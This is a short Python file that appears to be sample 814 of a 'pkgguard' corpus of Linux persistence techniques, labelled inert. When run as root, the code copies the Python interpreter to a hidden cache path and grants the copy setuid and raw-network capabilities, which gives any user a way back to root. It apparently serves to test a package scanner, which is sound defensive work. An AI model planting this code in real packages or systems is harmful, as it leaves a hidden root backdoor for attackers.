# pkgguard corpus 814 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import shutil
import subprocess
import sys

if sys.platform.startswith("linux") and os.geteuid() == 0:
    copy = "/usr/local/lib/.cache/python3"
    os.makedirs(os.path.dirname(copy), exist_ok=True)
    shutil.copy2(os.path.realpath(sys.executable), copy)
    subprocess.run(["setcap", "cap_setuid,cap_net_raw+ep", copy], capture_output=True)
